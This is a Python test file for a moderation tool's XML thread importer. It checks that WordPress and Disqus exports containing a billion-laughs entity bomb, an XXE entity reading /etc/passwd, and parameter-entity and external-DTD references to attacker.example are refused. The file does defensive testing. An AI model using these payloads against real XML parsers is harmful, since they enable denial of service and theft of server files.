"""XML exports come from users: entity bombs and external entities are refused, never expanded."""

from __future__ import annotations

import pytest

from moderator.errors import ThreadFormatError
from moderator.threads import read_threads

WP = 'xmlns:wp="http://wordpress.org/export/1.2/"'

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ROOT><channel><item><wp:post_id>1</wp:post_id><wp:comment><wp:comment_id>1</wp:comment_id>
<wp:comment_content>&lol9;</wp:comment_content></wp:comment></item></channel></ROOT>
"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE ROOT [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ROOT><channel><item><wp:post_id>1</wp:post_id><wp:comment><wp:comment_id>1</wp:comment_id>
<wp:comment_content>&xxe;</wp:comment_content></wp:comment></item></channel></ROOT>
"""

PARAMETER_XXE = """<?xml version="1.0"?>
<!DOCTYPE ROOT [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<ROOT><channel/></ROOT>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ROOT SYSTEM "http://attacker.example/evil.dtd">
<ROOT><channel/></ROOT>
"""

CASES = {
    "bomb": (BILLION_LAUGHS, "refused: XML entity declaration 'lol'; entity expansion (an "
                             "entity bomb, 'billion laughs') is not allowed in a thread export"),
    "xxe": (XXE, "refused: external entity 'xxe' (file:///etc/passwd); XML external entities "
                 "(XXE) are not allowed in a thread export"),
    "parameter": (PARAMETER_XXE, "refused: external entity 'remote' "
                                 "(http://attacker.example/evil.dtd); XML external entities (XXE) "
                                 "are not allowed in a thread export"),
}


def document(template: str, fmt: str) -> str:
    if fmt == "wxr":
        return template.replace("ROOT", "rss").replace("<rss>", f"<rss {WP}>")
    # Disqus: the same attack in a Disqus-shaped file
    return (template.replace("ROOT", "disqus")
            .replace("<disqus>", '<disqus xmlns:dsq="http://disqus.com/disqus-internals">'))


@pytest.mark.parametrize("fmt", ["wxr", "disqus", None])
@pytest.mark.parametrize("case", sorted(CASES))
def test_entities_are_refused_with_one_clear_line(tmp_path, fmt, case):
    template, reason = CASES[case]
    path = tmp_path / f"{case}.xml"
    path.write_text(document(template, fmt or "wxr"), encoding="utf-8")
    with pytest.raises(ThreadFormatError) as info:
        list(read_threads(path, format=fmt))
    message = str(info.value)
    assert message.startswith(f"{path}:")
    assert message.endswith(reason)
    assert "\n" not in message
    assert "root:" not in message  # /etc/passwd was never read into anything


def test_external_dtd_is_refused(tmp_path):
    path = tmp_path / "dtd.xml"
    path.write_text(document(EXTERNAL_DTD, "wxr"), encoding="utf-8")
    with pytest.raises(ThreadFormatError) as info:
        list(read_threads(path, format="wxr"))
    assert str(info.value).endswith(
        "refused: external reference (http://attacker.example/evil.dtd); XML external entities "
        "(XXE) are not allowed in a thread export")


def test_bomb_in_a_malformed_export_is_still_refused(tmp_path):
    """A DTD hidden after a broken prolog never reaches a parser that expands it."""
    text = BILLION_LAUGHS.replace('<?xml version="1.0"?>', '<?xml version="1.0"?>\n<!-- & -->')
    path = tmp_path / "bomb2.xml"
    path.write_text(document(text, "wxr"), encoding="utf-8")
    with pytest.raises(ThreadFormatError, match="refused: XML entity declaration 'lol'"):
        list(read_threads(path, format="wxr"))


def test_doctype_inside_a_recovered_item_is_refused(tmp_path, caplog):
    text = (f"<rss {WP}><channel><title>a & b</title>"
            "<item><wp:post_id>1</wp:post_id><wp:comment><wp:comment_id>1</wp:comment_id>"
            "<wp:comment_content>ok</wp:comment_content></wp:comment></item>"
            '<item><!DOCTYPE x [<!ENTITY y "z">]><wp:post_id>2</wp:post_id>'
            "<wp:comment><wp:comment_id>2</wp:comment_id></wp:comment></item>"
            "</channel></rss>")
    path = tmp_path / "sneaky.xml"
    path.write_text(text, encoding="utf-8")
    threads = list(read_threads(path, format="wxr"))
    assert [t.id for t in threads] == ["1", "2"]
    assert threads[1].comments == [] and threads[1].skipped == {"unreadable (malformed XML)": 1}
    # a DOCTYPE inside an element is not even XML: the item is reported, nothing declared
    assert "WordPress item 2 could not be read (not well-formed" in caplog.text


def test_harmless_doctype_is_accepted(tmp_path):
    path = tmp_path / "doctype.xml"
    path.write_text(f"<!DOCTYPE rss>\n<rss {WP}><channel><item><wp:post_id>1</wp:post_id>"
                    "<wp:comment><wp:comment_content>hi</wp:comment_content></wp:comment>"
                    "</item></channel></rss>", encoding="utf-8")
    [thread] = read_threads(path, format="wxr")
    assert [c.text for c in thread.comments] == ["hi"]
